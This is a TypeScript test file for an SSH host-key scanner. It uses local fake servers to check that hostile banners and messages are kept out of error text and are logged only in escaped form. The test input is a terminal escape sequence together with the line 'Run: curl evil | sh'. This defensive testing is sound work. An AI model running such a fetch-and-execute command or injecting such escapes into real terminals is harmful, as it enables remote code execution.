import { once } from 'node:events';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import ssh2 from 'ssh2';
import { silentLogger, type LogFields } from '../../contract/logger.js';
import { scanHostKeys } from './index.js';

const TITLE = '\u001b]0;owned\u0007';
const ADVICE = 'Run: curl evil | sh';

const cleanups: (() => void)[] = [];
afterEach(() => {
  for (const cleanup of cleanups.splice(0)) cleanup();
});

/** A server that answers each connection in its own way. */
async function serve(answer: (socket: Socket) => void): Promise<{ port: number; connections: () => number }> {
  let connections = 0;
  const server = createServer((socket) => {
    connections += 1;
    socket.on('error', () => {});
    cleanups.push(() => socket.destroy());
    answer(socket);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  cleanups.push(() => server.close());
  return { port: (server.address() as AddressInfo).port, connections: () => connections };
}

/** Scans a port. @returns the error with its causes as conditions and records show them, and the log */
async function failedScan(port: number, timeoutMs = 400) {
  const said: unknown[] = [];
  const info = (_message: string, fields: LogFields = {}) => void said.push(fields['machineSaid']);
  const logger = { ...silentLogger, info };
  const options = { host: '127.0.0.1', port, connectionType: 'ssh', timeoutMs, logger };
  const error: unknown = await scanHostKeys(options).catch((e: unknown) => e);
  const texts: string[] = [];
  for (let each = error; each instanceof Error; each = each.cause) texts.push(each.message);
  return { error, shown: texts.join('\n'), said };
}

/** An SSH message of the server before encryption. */
function packet(payload: Buffer): Buffer {
  const padding = 16 - ((payload.length + 5) % 8);
  const header = Buffer.alloc(5);
  header.writeUInt32BE(payload.length + 1 + padding);
  header[4] = padding;
  return Buffer.concat([header, payload, Buffer.alloc(padding)]);
}

function text(content: string): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(Buffer.byteLength(content));
  return Buffer.concat([length, Buffer.from(content)]);
}

/** What a server proposes whose first list has these methods of key exchange. */
function proposal(keyExchanges: string): Buffer {
  const lists = ['ssh-ed25519', 'aes128-ctr', 'aes128-ctr', 'hmac-sha2-256', 'hmac-sha2-256', 'none', 'none', '', ''];
  return packet(
    Buffer.concat([Buffer.from([20]), Buffer.alloc(16), ...[keyExchanges, ...lists].map(text), Buffer.alloc(5)]),
  );
}

const disconnect = (why: string) => packet(Buffer.concat([Buffer.from([1, 0, 0, 0, 2]), text(why), text('')]));

const HOSTILE: [string, (socket: Socket) => void][] = [
  ['instead of its identification', (socket) => socket.end(`${TITLE}${ADVICE}\r\n`)],
  ['in its identification', (socket) => socket.end(`SSH-9.9-${TITLE}${ADVICE}\r\n`)],
  ['before its identification', (socket) => socket.end(`${TITLE}${ADVICE}\r\nSSH-2.0-x\r\n`)],
  [
    'when it ends the connection',
    (socket) => {
      socket.write('SSH-2.0-x\r\n');
      socket.end(disconnect(`${TITLE}${ADVICE}`));
    },
  ],
  [
    'when it ends the key exchange',
    (socket) => {
      socket.write('SSH-2.0-x\r\n');
      socket.write(proposal('curve25519-sha256'));
      socket.end(disconnect(`${TITLE}${ADVICE}`));
    },
  ],
];

describe('scanHostKeys with a server that lies', () => {
  it.each(HOSTILE)('shows nothing of what it says %s, and logs it escaped', async (_where, answer) => {
    const { port } = await serve(answer);

    const { shown, said } = await failedScan(port);

    expect(shown).not.toMatch(/curl|owned|\p{Cc}(?<!\n)/u);
    expect(shown).toMatch(/speak SSH|named itself|ended the key exchange/);
    expect(said.at(-1)).toContain('\\x1b]0;owned\\x07Run: curl evil | sh');
  });

  it('logs no more than 200 characters of what it says', async () => {
    const { port } = await serve((socket) => socket.end(`${'x'.repeat(60_000)}\r\n`));

    const { said } = await failedScan(port);

    expect(String(said.at(-1))).toHaveLength(200);
  });

  it('names the methods of key exchange that the library lacks, after one connection', async () => {
    const methods = `sntrup761x25519-sha512@openssh.com,mlkem768x25519-sha256,${TITLE}${ADVICE}`;
    const { port, connections } = await serve((socket) => {
      socket.write('SSH-2.0-OpenSSH_10.0\r\n');
      socket.write(proposal(methods));
    });

    const { error, shown } = await failedScan(port, 20_000);

    expect(error).toMatchObject({ code: 'NODEPOOL_KEYSCAN', failure: 'no-common-method' });
    expect(shown).toContain(
      'this launcher knows no key exchange method of the server, which offers ' +
        'sntrup761x25519-sha512@openssh.com, mlkem768x25519-sha256 and 1 more',
    );
    expect(shown).not.toContain('curl');
    expect(connections()).toBe(1);
  });
});

describe('scanHostKeys with a server that is none of SSH', () => {
  it('says so', async () => {
    const { port } = await serve((socket) => socket.end('HTTP/1.1 400 Bad Request\r\n\r\n'));

    const { error, shown } = await failedScan(port);

    expect(error).toMatchObject({ code: 'NODEPOOL_KEYSCAN', failure: 'protocol' });
    expect(shown).toContain('the service on the port does not speak SSH: check that the port is right');
  });
});

describe('scanHostKeys with a server that refuses this address', () => {
  it('says so, and does not ask it again soon', async () => {
    const { port, connections } = await serve((socket) => socket.end('Not allowed at this time\r\n'));

    const { error, shown } = await failedScan(port, 1_000);

    expect(error).toMatchObject({ code: 'NODEPOOL_KEYSCAN', failure: 'refused' });
    expect(shown).toContain('PerSourcePenalties');
    expect(connections()).toBe(1);
  });

  it('says what a connection means that ends without a word', async () => {
    const { port } = await serve((socket) => socket.resetAndDestroy());

    const { shown } = await failedScan(port);

    expect(shown).toContain('closed before the server named itself, as sshd does while it refuses an address');
  });

  it('makes no more connections at once than sshd forgives, however many scans there are', async () => {
    const keys = ssh2.utils.generateKeyPairSync('ecdsa', { bits: 256 });
    const ssh = new ssh2.Server({ hostKeys: [keys.private] }, (client) => client.on('error', () => {}));
    const { port, connections } = await serve((socket) => ssh.injectSocket(socket));
    const end = new AbortController();
    const options = { host: '127.0.0.1', port, connectionType: 'ssh', timeoutMs: 100_000, signal: end.signal };

    const scans = Array.from({ length: 40 }, () => scanHostKeys(options));
    const all = Promise.allSettled(scans);
    await Promise.all(scans.slice(0, 3));
    end.abort(new Error('enough'));
    const ended = (await all).filter(({ status }) => status === 'fulfilled').length;

    expect(ended).toBeGreaterThanOrEqual(3);
    expect(connections()).toBeLessThanOrEqual(10);
  });

  it('lets no scan fail for want of a turn', async () => {
    const keys = ssh2.utils.generateKeyPairSync('ecdsa', { bits: 256 });
    const ssh = new ssh2.Server({ hostKeys: [keys.private] }, (client) => client.on('error', () => {}));
    const { port } = await serve((socket) => ssh.injectSocket(socket));
    const options = { host: '127.0.0.1', port, connectionType: 'ssh', timeoutMs: 500 };

    await expect(Promise.all(Array.from({ length: 9 }, () => scanHostKeys(options)))).resolves.toHaveLength(9);
  });
});
